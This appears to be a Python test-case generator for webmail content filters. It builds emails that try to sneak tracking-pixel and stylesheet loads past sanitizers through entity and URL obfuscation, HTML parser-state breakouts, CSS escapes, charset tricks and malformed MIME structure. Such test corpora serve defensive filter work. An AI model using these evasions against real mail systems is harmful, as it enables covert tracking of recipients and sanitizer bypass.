# SPDX-License-Identifier: Apache-2.0
"""The parser evasions, tables Q1 to Q5 of the list of vectors, each crossed with a small set of vectors.

Q1 to Q3 change the markup: a function turns the parts of a base vector (BASE) into evading ones.  Q4 and Q5 change the
message: a function writes the whole message around a finished document, and names the reading (webmail.READINGS) under
which a client sees the document.
"""
import base64
import quopri
import re
import struct
import zlib

import cases as table
from cases import Case, LOGO_PART, crlf, headers, html, html_part, related

# The small vector set.  {u} is the URL inside a double-quoted attribute or string.
BASE = {
    "img":    ("img-src", {"body": '<img src="{u}" width=9 height=9>\n'}),
    "sheet":  ("link-stylesheet", {"body": '<link rel=stylesheet href="{u}">\n'}),
    "base":   ("base-href", {"head": '<base href="{u}/">\n', "body": '<img src="rel.gif">\n'}),
    "svg":    ("svg-image", {"body": '<svg width=9 height=9><image href="{u}" width=9 height=9 /></svg>\n'}),
    "style":  ("css-background", {"body": '<p style="background:url({u})">painted</p>\n'}),
    "import": ("css-import-string", {"style": '@import "{u}";\n'}),
    "block":  ("css-background", {"style": "p{{background:url({u})}}\n"}),
}
ATTRIBUTES = ("img", "sheet", "base", "svg")            # the URL stands in an attribute of its own
MARKUP = ATTRIBUTES + ("style",)                        # the URL stands in some attribute
CSS = ("style", "import", "block")
ALL = MARKUP + ("import", "block")

# Rows of table G that describe the same reference as well.
OTHER_NAMES = {"ev-userinfo": "|userinfo-url", "ev-unicode-host": "|idn-host"}

URL_RULES, MARKUP_RULES, MESSAGE_RULES = [], [], []


def url(name, bases=MARKUP, fires="page mail", words=""):
    """The decorated function turns "https://HOST/LABEL" into the evading text."""
    def keep(function):
        URL_RULES.append((name, bases, fires, words, function))
        return function
    return keep


def markup(name, text=None, scan="img-src", fires="page mail", words="", **parts):
    """One case with its own markup."""
    if text is not None:
        parts["body"] = text + "\n"
    MARKUP_RULES.append((name, scan, fires, words, parts))


def message(name, reading="plain", bases=("img", "import", "base"), fires="page mail", words=""):
    """The decorated function writes the message: function(case, document text) -> bytes or text."""
    def keep(function):
        MESSAGE_RULES.append((name, reading, bases, fires, words, function))
        return function
    return keep


# Q1. URL and attribute level

@url("ev-entity-dec")
def _(u): return "&#104;&#116;" + u[2:]

@url("ev-entity-dec/open", ("img", "style"))
def _(u): return u.replace("https", "&#104ttps").replace("//", "&#47&#47")

@url("ev-entity-hex-pad")
def _(u): return "&#x0000068" + u[1:].replace(":", "&#X3A;")

@url("ev-entity-named")
def _(u): return u.replace(":", "&colon;").replace("/", "&sol;").replace(".", "&period;")

@url("ev-entity-named/blank", ATTRIBUTES)
def _(u): return "ht&Tab;tps:&NewLine;//" + u[8:]

@url("ev-tab-newline", ATTRIBUTES)
def _(u): return "ht&#10;tp" + "s://" + u[8:10] + "&#9;" + u[10:]

@url("ev-tab-newline/raw", ATTRIBUTES)
def _(u): return "ht\ntps://" + u[8:10] + "\t" + u[10:]

@url("ev-lead-ctrl", ATTRIBUTES)
def _(u): return " &#1;&#x1f;" + u + " &#2;"

@url("ev-proto-relative")
def _(u): return u[6:]

@url("ev-backslash", ATTRIBUTES)
def _(u): return u.replace("/", "\\")

@url("ev-backslash/relative", ("img",))
def _(u): return "/\\" + u[8:]

@url("ev-slashes")
def _(u): return u.replace("//", "////")

@url("ev-slashes/one", ("img", "sheet", "svg", "style"), "page")
def _(u): return u.replace("//", "/")

@url("ev-slashes/one", ("base",))
def _(u): return u.replace("//", "/")

@url("ev-slashes/none", ("img", "svg"), "page")
def _(u): return u.replace("//", "")

@url("ev-case", ALL)
def _(u): return "HtTpS://" + u[8:].replace("sink.test", "SINK.tEsT")

@url("ev-userinfo", ("img", "sheet"), "")
def _(u): return u.replace("//", "//good.example@")

@url("ev-fragment-proxy", ("img", "style"))
def _(u): return u + "/p#http://beacon.example/ID"

@url("ev-open-redirect", ("img", "style"))
def _(u): return u + "/r?u=http%3A%2F%2Fbeacon.example%2FID"

@url("ev-nested-encoding", ("img", "style"))
def _(u): return u + "?u=aHR0cDovL2JlYWNvbi5leGFtcGxlL0lE"

@url("ev-unicode-host")
def _(u): return u.replace(".sink", "&shy;.sink").replace("k.test", "k。test")

@url("ev-unicode-host/wide", ("img", "import"))
def _(u): return u.replace("sink", "ｓｉｎｋ")

@url("ev-trailing-dot", ALL)
def _(u): return u.replace("sink.test", "sink.test.")

@url("ev-port-path-token", ("img", "import"))
def _(u): return u.replace("sink.test", "sink.test:40123")

for _name, _form in (("dword", "https://$DWORD/$LABEL"), ("hex", "https://$HEX/$LABEL"), ("octal", "https://$OCTAL/$LABEL"),
                     ("mapped", "https://[::ffff:$IP]/$LABEL")):
    markup("ev-ip-forms/" + _name, f'<img src="{_form}">', scan="img-src|ip-literal")
markup("ev-big-image-token", '<img src="$URL/hero-7f3a91c0d2e84b56.jpg" width=600>')
markup("ev-2x2", '<img width=2 height=2 src="$URL">')
markup("ev-2x2/line", '<img width=1 height=600 src="$URL">')
markup("ev-size-lie", '<img width=600 height=300 src="$URL">')
markup("ev-no-size", '<div style="max-height:1px;overflow:hidden"><img src="$URL"></div>')
markup("ev-repeat", '<img src="$URL"><img src="$URL"><img src="$URL"><img src="$URL"><img src="$URL">')
markup("ev-spacer-name", '<img src="$URL/spacer.gif?7f3a91c0d2e84b56"><img src="$URL/transparent.gif">')
markup("ev-attr-dup", '<img src="cid:logo@judge" src="$URL">', fires="")
markup("ev-attr-dup/first", '<img src="$URL" src="cid:logo@judge">')
markup("ev-attr-noquote", "<img/src=$URL/>")
markup("ev-attr-noquote/backtick", "<img src=`$URL`>", fires="")
markup("ev-attr-noquote/solidus", '<img/alt="x"/src="$URL"/ / width=9>')
markup("ev-attr-nul", '<img s\0rc="$URL">', scan="img-src|unknown-attribute", fires="")
markup("ev-namespaced-attr", '<svg width=9 height=9><image x:href="$URL" xmlns:x="http://www.w3.org/1999/xlink"/></svg>',
       scan="svg-image|unknown-attribute", fires="")
markup("ev-namespaced-attr/xhtml", None, scan="svg-image|unknown-attribute", words="bare part=application/xhtml+xml", fires="page",
       document='<html xmlns="http://www.w3.org/1999/xhtml"><body><p>plain</p><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
                '<image x:href="$URL" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"/></svg></body></html>')

# Q2. Tag, comment and parser state

markup("ev-image-alias", '<image src="$URL">', scan="image-alias-src")
markup("ev-unclosed-tag", None, words="bare", fires="", document='<html><body><p>plain</p><img src="https://control.$HOST/c.gif"><img src="$URL"')
markup("ev-unclosed-attr", '<img src="$URL?<p>swallowed text</p>" width=9>')
markup("ev-unclosed-attr/lines", '<img src="$URL?\n<p>swallowed text</p>\n" width=9>', fires="")     # Chromium refuses a line end with "<"
markup("ev-unclosed-attr/end", None, words="bare", fires="",
       document='<html><body><p>plain</p><img src="https://control.$HOST/c.gif"><img src="$URL?\n<p>swallowed to the end</p></body></html>')
markup("ev-nested-comment", '<!--><img src="$URL">-->')
markup("ev-nested-comment/bang", '<!-- x --!><img src="$URL">-->')
markup("ev-nested-comment/dash", '<!---><img src="$URL">-->')
markup("ev-nested-comment/nested", '<!-- <!-- --><img src="$URL">-->')
markup("ev-nested-comment/sheet", '<!--><link rel=stylesheet href="$URL">-->', scan="link-stylesheet")
markup("ev-cond-comment", '<!--[if mso]><!--><img src="$URL"><!--<![endif]-->', scan="img-src|mso-cond-img")
markup("ev-cond-comment/hidden", '<!--[if mso]><table background="$URL"><tr><td>x</td></tr></table><![endif]-->', scan="table-background|mso-cond-img", fires="")
markup("ev-cdata-pi", '<![CDATA[><img src="$URL">]]>')
markup("ev-cdata-pi/pi", '<?php ><img src="$URL">?>')
for _tag in ("xmp", "noembed", "noframes", "textarea", "title", "style", "iframe"):
    markup(f"ev-rawtext/{_tag}", f'<{_tag}></{_tag}><img src="$URL">')
markup("ev-rawtext/inside", '<noembed><img src="$URL"></noembed>', fires="")
markup("ev-rawtext/broken", '<style></style x="<style>"><img src="$URL"></style>')
markup("ev-foreign-content", '<svg></p><style><a title="</style><img src=$URL>"></style>')
markup("ev-foreign-content/math", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x&gt;" src="$URL">')
markup("ev-foreign-content/desc", '<svg><desc><img src="$URL"></desc></svg>')
markup("ev-select-table", '<table><img src="$URL"><tr><td>cell</td></tr></table>')
markup("ev-select-table/select", '<select><option>one<img src="$URL"></select>')
markup("ev-select-table/sheet", '<table><link rel=stylesheet href="$URL"><tr><td>cell</td></tr></table>', scan="link-stylesheet")
markup("ev-template", '<template><div><template><img src="$URL"></template></div></template>', fires="")
markup("ev-template/shadow", '<div><template shadowrootmode=open><style>@import "$URL";</style></template></div>', scan="css-import-string")
markup("ev-noscript-flag", '<noscript><p title="</noscript><img src=$URL>">title text</p></noscript>', fires="")
markup("ev-noscript-flag/open", '<noscript><img src="$URL"></noscript>', scan="img-src|noscript-img")
markup("ev-base-late", None, scan="base-href", body='<base target=_blank>\n<base href="$URL/">\n<img src="rel.gif">\n')
markup("ev-base-late/second", None, scan="base-href", head='<base href="$URL/">\n<base href="https://link.$HOST/">\n', body='<img src="rel.gif">\n')
markup("ev-head-injection", None, scan="link-stylesheet", after='<link rel=stylesheet href="$URL">\n')
markup("ev-head-injection/meta", None, scan="meta-refresh", fires="page", after='<meta http-equiv=refresh content="0;url=$URL">\n')
markup("ev-head-injection/img", None, after='<img src="$URL">\n')
markup("ev-huge-depth", "<div>" * 3000 + '<img src="$URL">' + "</div>" * 3000)
markup("ev-huge-depth/attribute", f'<p title="{"x" * 70000}">long</p><img src="$URL">')
markup("ev-1mb-tail", '<div style="height:20px;overflow:hidden">' + "words and more words to fill the page\n" * 27000 + '</div>\n<img src="$URL">')

# Q3. CSS level

markup("ev-css-escape", r'<p style="background:\75 \72 \6C ($URL)">painted</p>', scan="css-background")
markup("ev-css-escape/six", r'<p style="background:\000075\000072\00006C($URL)">painted</p>', scan="css-background")
markup("ev-css-escape/import", None, scan="css-import-string", style='@\\69mport "$URL";\n')
markup("ev-css-escape/scheme", r'<p style="background:url(\68 ttps\3a //$HOST/$LABEL)">painted</p>', scan="css-background")
markup("ev-css-escape/property", r'<p style="b\61 ckground:url($URL)">painted</p>', scan="css-background")
markup("ev-css-escape/newline", None, scan="css-background", style='p{background:url("https://\\\n$HOST/$LABEL")}\n')
markup("ev-css-escape-mixed", r'<p style="background:\75&#114\6C($URL)">painted</p>', scan="css-background")
markup("ev-css-double-escape", r'<p style="background:ur\\5C\\6C($URL); /* url( */">painted</p>', scan="", fires="")
markup("ev-css-comment-split", '<p style="background:/**/url($URL)/**/">painted</p>', scan="css-background")
markup("ev-css-comment-split/import", None, scan="css-import-string", style='@import/* " */"$URL"/**/;\n')
markup("ev-css-unclosed-url", '<p style="background:url($URL">painted</p>', scan="css-background")
markup("ev-css-unclosed-url/block", None, scan="css-background", style="p{background:url($URL")
markup("ev-css-unclosed-url/string", None, scan="css-import-string", style='@import "$URL')
markup("ev-css-unclosed-url/attribute", '<svg width=9 height=9><rect width=9 height=9 fill="url($URL"/></svg>', scan="svg-fill")
markup("ev-css-decoy-allow", '<p style="x:url(data:image);background:url($URL)">painted</p>', scan="css-background")
markup("ev-css-data-then-break", '<table><tr><td background="data:image/png,x);background:url(//$HOST/ID">cell</td></tr></table>', scan="", fires="")
markup("ev-css-quote-amp", r"""<p style='content:"\26quot;;background:url($URL)"'>painted</p>""", scan="", fires="")
markup("ev-css-string-url", """<p style='background:image-set("$URL" 1x)'>painted</p>""", scan="css-image-set")
markup("ev-css-string-url/import", None, scan="css-import-string|css-import-cond", style="@import'$URL'screen;\n")
markup("ev-css-var-indirect", '<p style="--x:url($URL);background:var(--x)">painted</p>', scan="css-var")
markup("ev-css-var-indirect/far", None, scan="css-var", style=":root{--a:url($URL)} p{--b:var(--a);background-image:var(--b)}\n")
markup("ev-css-important-dup", '<p style="background:url($URL)!important;background:none">painted</p>', scan="css-background")
markup("ev-css-important-dup/never", '<p style="background:none!important;background:url($URL)">painted</p>', scan="css-background", fires="")
markup("ev-css-charset", '<link rel=stylesheet href="data:text/css;charset=utf-16le;base64,$UTF16(@import \'$URL\';)">', scan="css-import-string|data-nested")
markup("ev-css-charset/rule", None, scan="css-import-string", style='@charset "utf-7";\n@import "$URL";\n')
markup("ev-css-cdo-cdc", None, scan="css-import-string", style='<!-- @import "$URL"; -->\n')
# Words to a client without scripts; cutting what a client with scripts would see must not make a picture of them.
markup("ev-noscript-flag/attribute", '<noscript><img t="</noscript><p"> src=$URL ></noscript>', scan="", words="kept text-differs", fires="")
markup("ev-noscript-flag/quote", '<noscript><img alt="</noscript><p"> x" src=$URL ></noscript>', scan="", words="kept text-differs", fires="")
# Browsers fetch ahead of the tree builder, which ignores style elements in a frameset.
markup("ev-rawtext/frameset", None, words="bare", scan="css-import-url",
       document="<html><frameset><frame></frameset><style>@import url($URL);</style></html>")
markup("ev-rawtext/frameset-comment", None, words="bare", document='<html><frameset><frame></frameset><style><!--</style><img src="$URL"></html>')
markup("ev-rawtext/frameset-attribute", None, words="bare", document="<html><frameset><frame></frameset><style><a title='</style><img src=$URL>'></html>")
markup("ev-cdata-pi/svg-style", None, words="bare", document='<html><body><p>plain</p><svg><style><![CDATA[html{color:red}</style><img src="$URL">')
markup("ev-css-cdo-cdc/block", None, scan="css-background", style="<!-- p{background:url($URL)} -->\n")
markup("ev-css-selector-never", None, scan="css-background|css-client-hack", style="u+.nobody p{background:url($URL)}\n", fires="")

# Q4. Charset and transfer encoding


def coded(case, body, charset, encoding="base64", kind="text/html"):
    """A message with a text/html part of these bytes."""
    body = base64.encodebytes(body) if encoding == "base64" else body
    head = f"Content-Type: {kind}; charset={charset}\nContent-Transfer-Encoding: {encoding}\n\n".encode()
    return envelope(case, head + body)


def envelope(case, part, boundary="=_related"):
    """Bytes of a message of this part and the logo."""
    mark = ("--" + boundary + "\n").encode()
    return (headers(case) + f'Content-Type: multipart/related; boundary="{boundary}"\n\n').encode() \
        + mark + part + b"\n" + mark + LOGO_PART.encode() + b"\n--" + boundary.encode() + b"--\n"


def whole(case, fields, body, more=""):
    """A message without parts."""
    return headers(case) + fields + "\n" + body + more


@message("ev-utf7")
def _(case, text):
    return coded(case, "".join(c if c not in "<>\"=" else "+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-"
                               for c in text.replace("+", "+-").replace('<meta charset="utf-8">', "")).encode(), "utf-7", "7bit")

@message("ev-utf16-32")
def _(case, text): return coded(case, text.replace('<meta charset="utf-8">', "").encode("utf-16"), "utf-16")

@message("ev-utf16-32/le")
def _(case, text): return coded(case, text.encode("utf-16-le"), "utf-16le")

@message("ev-utf16-32/mark")
def _(case, text): return coded(case, b"\xff\xfe" + text.encode("utf-16-le"), "us-ascii", words_of(case))

def words_of(_): return "base64"

@message("ev-utf16-32/utf32")
def _(case, text): return coded(case, text.encode("utf-32"), "utf-32")

@message("ev-iso2022", bases=("img", "import"))
def _(case, text):
    data = text.replace('<meta charset="utf-8">', "").encode("ascii", "xmlcharrefreplace")
    return coded(case, data.replace(b"<img src", b"<i\x1b(Jmg s\x1b(Brc").replace(b"@import", b"@im\x1b(Jport\x1b(B"), "iso-2022-jp")

@message("ev-iso2022/kr", bases=("img", "import"))
def _(case, text):
    data = text.replace('<meta charset="utf-8">', "").encode("ascii", "xmlcharrefreplace")
    return coded(case, b"\x1b$)C" + data, "iso-2022-kr")

@message("ev-hz-gbk", bases=("img", "import"))
def _(case, text):
    data = text.replace('<meta charset="utf-8">', "").encode("ascii", "xmlcharrefreplace")
    return coded(case, data.replace(b"<img src", b"<i~\nmg src").replace(b"@import", b"@im~\nport"), "hz-gb-2312")

@message("ev-hz-gbk/lead", bases=("img",))
def _(case, text):
    data = text.replace('<meta charset="utf-8">', "").encode("ascii", "xmlcharrefreplace")
    return coded(case, data.replace(b"<img src=\"https://ev", b"<img title=\"\x81\" src=\"https://ev"), "gbk")

@message("ev-ebcdic-rare")
def _(case, text): return coded(case, text.replace('<meta charset="utf-8">', "").encode("cp037", "xmlcharrefreplace"), "ibm037")

@message("ev-ebcdic-rare/mac", bases=("img", "import"))
def _(case, text): return coded(case, text.replace('<meta charset="utf-8">', "").encode("mac_roman", "xmlcharrefreplace"), "x-mac-roman")

# Cleaned, header and meta say UTF-8, and what only UTF-7 would read as markup is words to everybody: it stays.
@message("ev-charset-conflict", "as-utf-7", words="text-differs kept")
def _(case, text):
    text = text.replace('<meta charset="utf-8">', '<meta charset="utf-7">')
    at = text.index("</title>") + 8
    hide = "".join(c if c not in "<>" else "+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-" for c in text[at:].replace("+", "+-"))
    return coded(case, (text[:at] + hide).encode(), "utf-8", "8bit")

@message("ev-overlong", bases=("img",), fires="", words="kept unscanned")
def _(case, text): return coded(case, text.encode().replace(b"<img src=\"https://ev", b"\xc0\xbcimg src=\"https://ev"), "utf-8")

@message("ev-b64-junk", "lenient")
def _(case, text):
    data = base64.b64encode(text.encode()).decode()
    junk = "".join(c + ("*" if i % 7 == 0 else "") + ("\n" if i % 60 == 59 else "") for i, c in enumerate(data))
    return related_message(case, "text/html; charset=utf-8", junk, "base64")

@message("ev-b64-junk/padding", "lenient", words="text-differs")
def _(case, text):
    data = text.encode()
    first = base64.b64encode(data[:len(data) // 3 // 4 * 4 + 1]).decode()
    return related_message(case, "text/html; charset=utf-8", first + "\n" + base64.encodebytes(data[len(data) // 3 // 4 * 4 + 1:]).decode(), "base64")

@message("ev-b64-lines", "lenient")
def _(case, text): return related_message(case, "text/html; charset=utf-8", base64.b64encode(text.encode()).decode(), "base64")

@message("ev-b64-lines/one", "lenient", bases=("img",))
def _(case, text): return related_message(case, "text/html; charset=utf-8", "\n".join(base64.b64encode(text.encode()).decode()), "base64")

@message("ev-qp-bad", "lenient")
def _(case, text):
    data = quopri.encodestring(text.encode()).decode()
    data = data.replace("=3D", "=3d").replace("<img", "<i=\nmg").replace("@import", "@im=  \nport").replace("<base", "=3cba=\nse")
    return related_message(case, "text/html; charset=utf-8", data, "quoted-printable")

def related_message(case, kind, body, encoding):
    return crlf(headers(case) + related(f"Content-Type: {kind}\nContent-Transfer-Encoding: {encoding}\n\n{body}"))

def uu(text):
    import binascii
    data = text.encode()
    return "begin 644 a.html\n" + "".join(binascii.b2a_uu(data[i:i + 45]).decode() for i in range(0, len(data), 45)) + "`\nend\n"

@message("ev-uuencode-yenc", "uudecoded", words="text-differs")
def _(case, text): return whole(case, "Content-Type: text/plain; charset=us-ascii\n", "Good morning.\n\n" + uu(text))

@message("ev-uuencode-yenc/cte", "uudecoded", bases=("img", "import"))
def _(case, text): return envelope(case, b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: x-uuencode\n\n" + uu(text).encode())

@message("ev-uuencode-yenc/yenc", "uudecoded", bases=("img",), words="text-differs")
def _(case, text):
    out = bytearray()
    for i, byte in enumerate(text.encode()):
        c = (byte + 42) & 255
        out += bytes([0x3D, (c + 64) & 255]) if c in (0, 10, 13, 0x3D) else bytes([c])
        if i % 120 == 119:
            out += b"\n"
    head = whole(case, "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n", "Good morning.\n\n").encode()
    return head + b"=ybegin line=128 size=%d name=a.html\n" % len(text) + bytes(out) + b"\n=yend size=%d\n" % len(text)

@message("ev-cte-conflict", "lenient", words="text-differs")
def _(case, text):
    return crlf(headers(case) + related("Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64\n\n"
                                        + base64.encodebytes(text.encode()).decode()))

@message("ev-cte-conflict/comment", "lenient", bases=("img", "import"), words="text-differs")
def _(case, text):
    return crlf(headers(case) + related("Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: (x) base64\n\n"
                                        + base64.encodebytes(text.encode()).decode()))

@message("ev-cte-multipart", "container")
def _(case, text):
    body = related(html_part(case, text), "=_inner").split("\n\n", 1)[1]
    return whole(case, 'Content-Type: multipart/related; boundary="=_inner"\nContent-Transfer-Encoding: base64\n',
                 base64.encodebytes(crlf(body)).decode())

@message("ev-8bit-binary", bases=("img", "import"), words="text-differs")
def _(case, text):
    data = text.encode().replace(b"<img src=\"https://ev", b"\0<img\rsrc=\"https://ev").replace(b"@import", b"\r@import").replace(b"\n", b"\r\n")
    head = (headers(case) + 'Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: binary\n\n').replace("\n", "\r\n").encode()
    return Raw(head + data)

class Raw(bytes):
    """A message whose line ends are meant as they are."""

# Q5. MIME structure

@message("ev-dup-content-type", "last-type", words="text-differs")
def _(case, text): return crlf(headers(case) + related("Content-Type: text/plain; charset=utf-8\n" + html_part(case, text)))

@message("ev-dup-content-type/first", bases=("img", "import"))
def _(case, text):
    return crlf(headers(case) + related(html_part(case, text).replace("\n\n", "\nContent-Type: text/plain\n\n", 1)))

@message("ev-dup-content-type/top", "last-type", bases=("img",), words="text-differs")
def _(case, text): return whole(case, "Content-Type: text/plain\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n", text)

@message("ev-dup-boundary-param", "last-boundary", words="text-differs")
def _(case, text):
    return crlf(headers(case) + related(html_part(case, text), "bb").replace('boundary="bb"', "boundary=aa; boundary=bb"))

@message("ev-boundary-nested")
def _(case, text):
    return crlf(headers(case) + 'Content-Type: multipart/mixed; boundary="ab"\n\n--ab\n' + related(html_part(case, text), "abab") + "\n--ab--\n")

@message("ev-boundary-nested/shorter", bases=("img", "import"), words="text-differs")
def _(case, text):
    return crlf(headers(case) + 'Content-Type: multipart/mixed; boundary="abab"\n\n--abab\n' + related(html_part(case, text), "ab") + "\n--abab--\n")

@message("ev-boundary-nested/equal", bases=("img",), words="text-differs")
def _(case, text):
    return crlf(headers(case) + 'Content-Type: multipart/mixed; boundary="ab"\n\n--ab\n' + related(html_part(case, text), "ab") + "\n--ab--\n")

@message("ev-boundary-odd", bases=("img", "import"))
def _(case, text):
    return crlf(headers(case) + related(html_part(case, text), "boundary").replace('boundary="boundary"', 'boundary*0="bou"; boundary*1="ndary"'))

@message("ev-boundary-odd/long", bases=("img",))
def _(case, text): return crlf(headers(case) + related(html_part(case, text), "x" * 90))

@message("ev-boundary-odd/spaces", bases=("img",))
def _(case, text): return crlf((headers(case) + related(html_part(case, text), "odd")).replace("\n--odd\n", "\n--odd  \t\n"))

@message("ev-boundary-odd/quoted", bases=("img",))
def _(case, text):
    return crlf(headers(case) + related(html_part(case, text), "o\"dd").replace('boundary="o"dd"', 'boundary="o\\"dd"'))

@message("ev-boundary-missing", words="text-differs")
def _(case, text): return crlf((headers(case) + related(html_part(case, text))).replace("--=_related--\n", ""))

@message("ev-boundary-missing/epilogue", "outside", bases=("img", "import"), words="text-differs")
def _(case, text): return crlf(headers(case) + related("Content-Type: text/plain\n\nGood morning.\n") + text)

@message("ev-boundary-missing/preamble", "outside", bases=("img", "import"), words="text-differs")
def _(case, text):
    head, rest = related("Content-Type: text/plain\n\nGood morning.\n").split("\n\n", 1)
    return crlf(headers(case) + head + "\n\n" + text + "\n" + rest)

@message("ev-boundary-charset", bases=("img",))
def _(case, text): return crlf(headers(case) + related(html_part(case, text), "=?utf-8?Q?a?="))

@message("ev-header-obs-fold", "mended", words="text-differs")
def _(case, text): return crlf(headers(case) + related(html_part(case, text).replace("Content-Type:", "Content-Type :", 1)))

@message("ev-header-obs-fold/fold", "mended", bases=("img",), words="text-differs")
def _(case, text): return crlf(headers(case) + related(html_part(case, text).replace("Content-Type:", "Content-Type\n :", 1)))

@message("ev-header-obs-fold/empty", "mended", bases=("img",), words="text-differs")
def _(case, text): return crlf(headers(case) + related(html_part(case, text).replace("Content-Type: ", "Content-Type:\n  \n ", 1)))

@message("ev-header-nocolon", "no-junk", words="text-differs")
def _(case, text): return crlf(headers(case) + related("garbage without it\n" + html_part(case, text)))

@message("ev-lf-only", bases=("img", "import"))
def _(case, text): return Raw((headers(case) + related(html_part(case, text))).encode())

@message("ev-lf-only/cr", "mended", bases=("img",), words="text-differs")
def _(case, text): return Raw((headers(case) + related(html_part(case, text))).encode().replace(b"\n", b"\r"))

@message("ev-ct-comment", "mended", words="text-differs")
def _(case, text): return crlf(headers(case) + related(html_part(case, text).replace("text/html;", "text/(x)html (y);", 1)))

@message("ev-ct-missing", "lenient", words="text-differs")
def _(case, text): return crlf(headers(case) + related("Content-Transfer-Encoding: 8bit\n\n" + text))

@message("ev-ct-missing/malformed", "lenient", bases=("img",), words="text-differs")
def _(case, text): return crlf(headers(case) + related("Content-Type: html\nContent-Transfer-Encoding: 8bit\n\n" + text))

@message("ev-text-mode-html", "lenient", words="text-differs table=Q2")
def _(case, text): return whole(case, "Content-Type: text/plain; charset=utf-8\n", text)

@message("ev-mime-version", bases=("img", "import"))
def _(case, text): return crlf((headers(case) + related(html_part(case, text))).replace("MIME-Version: 1.0\n", ""))

def attached(case, text, fields):
    return crlf(headers(case) + related(f"{fields}Content-Transfer-Encoding: base64\n\n{base64.encodebytes(text.encode()).decode()}"))

@message("ev-filename-rfc2231", "named", words="attached")
def _(case, text):
    return attached(case, text, "Content-Type: application/octet-stream\nContent-Disposition: inline; filename*0*=utf-8''a.h; filename*1=tml\n")

@message("ev-filename-encodedword", "named", bases=("img",), words="attached")
def _(case, text):
    return attached(case, text, 'Content-Type: application/octet-stream; name="=?utf-8?B?YS5odG1s?="\nContent-Disposition: inline\n')

@message("ev-filename-dup", "named", bases=("img",), words="attached")
def _(case, text):
    return attached(case, text, "Content-Type: application/octet-stream; name=a.html\nContent-Disposition: inline; filename=a.txt\n")

@message("ev-filename-tricks", "named", bases=("img",), words="attached")
def _(case, text):
    return attached(case, text, 'Content-Type: application/octet-stream\nContent-Disposition: inline; filename="invoice.pdf.html ."\n')

@message("ev-type-vs-magic", "magic", bases=("svg", "img"), words="attached")
def _(case, text): return attached(case, text, "Content-Type: image/png\nContent-Disposition: inline\n")

@message("ev-message-in-message", "container", words="text-differs")
def _(case, text):
    inner = crlf(headers(case) + related(html_part(case, text)))
    return crlf(headers(case) + "Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n") + base64.encodebytes(inner)

@message("ev-message-in-message/deep", bases=("img",))
def _(case, text):
    inner = headers(case) + related(html_part(case, text))
    for _ in range(20):
        inner = headers(case) + "Content-Type: message/rfc822\n\n" + inner
    return crlf(inner)

@message("ev-partial", "partial", bases=("img",), words="text-differs")
def _(case, text):
    return crlf(headers(case) + 'Content-Type: message/partial; id="x@judge"; number=1; total=1\n\n' + headers(case) + related(html_part(case, text)))

@message("ev-multipart-related-root", bases=("img", "import"))
def _(case, text):
    return crlf(headers(case) + 'Content-Type: multipart/related; boundary="rr"; start="<root@judge>"; type="text/plain"\n\n--rr\n' + LOGO_PART
                + "\n--rr\nContent-ID: <root@judge>\n" + html_part(case, text) + "\n--rr--\n")

@message("ev-alternative-order", bases=("img", "import"))
def _(case, text):
    return crlf(headers(case) + 'Content-Type: multipart/alternative; boundary="alt"\n\n--alt\n' + related(html_part(case, text))
                + "\n--alt\nContent-Type: text/plain\n\nGood morning.\n--alt--\n")

def tlv(tag, body):
    size = len(body)
    length = bytes([size]) if size < 128 else (lambda b: bytes([128 | len(b)]) + b)(size.to_bytes((size.bit_length() + 7) // 8, "big"))
    return bytes([tag]) + length + body

def oid(text):
    numbers = [int(n) for n in text.split(".")]
    out = bytes([numbers[0] * 40 + numbers[1]])
    for n in numbers[2:]:
        part = [n & 127]
        while n > 127:
            n >>= 7
            part.insert(0, n & 127 | 128)
        out += bytes(part)
    return tlv(6, out)

def smime(case, kind, der):
    return crlf(headers(case) + f"Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\nContent-Transfer-Encoding: base64\n"
                "Content-Disposition: attachment; filename=smime.p7m\n\n") + base64.encodebytes(der)

@message("ev-smime-wrapped", "signed", words="text-differs")
def _(case, text):
    """SignedData without signers, RFC 5652 5.1: what a certificate-only message looks like, with content."""
    inner = tlv(0x30, oid("1.2.840.113549.1.7.1") + tlv(0xA0, tlv(4, crlf(related(html_part(case, text))))))
    return smime(case, "signed-data", tlv(0x30, oid("1.2.840.113549.1.7.2") + tlv(0xA0, tlv(0x30, tlv(2, b"\1") + tlv(0x31, b"") + inner + tlv(0x31, b"")))))

@message("ev-compressed-data", "signed", bases=("img", "import"), words="text-differs")
def _(case, text):
    """CompressedData, RFC 3274 1.1."""
    data = zlib.compress(crlf(related(html_part(case, text))))
    inner = tlv(0x30, oid("1.2.840.113549.1.7.1") + tlv(0xA0, tlv(4, data)))
    algorithm = tlv(0x30, oid("1.2.840.113549.1.9.16.3.8"))
    return smime(case, "compressed-data", tlv(0x30, oid("1.2.840.113549.1.9.16.1.9") + tlv(0xA0, tlv(0x30, tlv(2, b"\0") + algorithm + inner))))

def winmail(case, what, data):
    """winmail.dat with one MAPI property (PT_BINARY), [MS-OXTNEF]."""
    value = struct.pack("<IHHII", 1, 0x0102, what, 1, len(data)) + data + b"\0" * (-len(data) % 4)
    tnef = struct.pack("<IH", 0x223E9F78, 1) + struct.pack("<BII", 1, 0x00069003, len(value)) + value + struct.pack("<H", sum(value) & 0xFFFF)
    return crlf(headers(case) + related("Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\n"
                                        + base64.encodebytes(tnef).decode()))

@message("ev-tnef-wrapped", "tnef", bases=("img",), words="attached")
def _(case, text):
    """PR_HTML."""
    return winmail(case, 0x1013, text.encode())

@message("ev-tnef-wrapped/rtf", "tnef", bases=("img",), words="attached")
def _(case, text):
    """PR_RTF_COMPRESSED, not compressed ([MS-OXRTFCP] 2.1.3.1), with HTML in it ([MS-OXRTFEX] 2.1.3): each tag a group, text as text."""
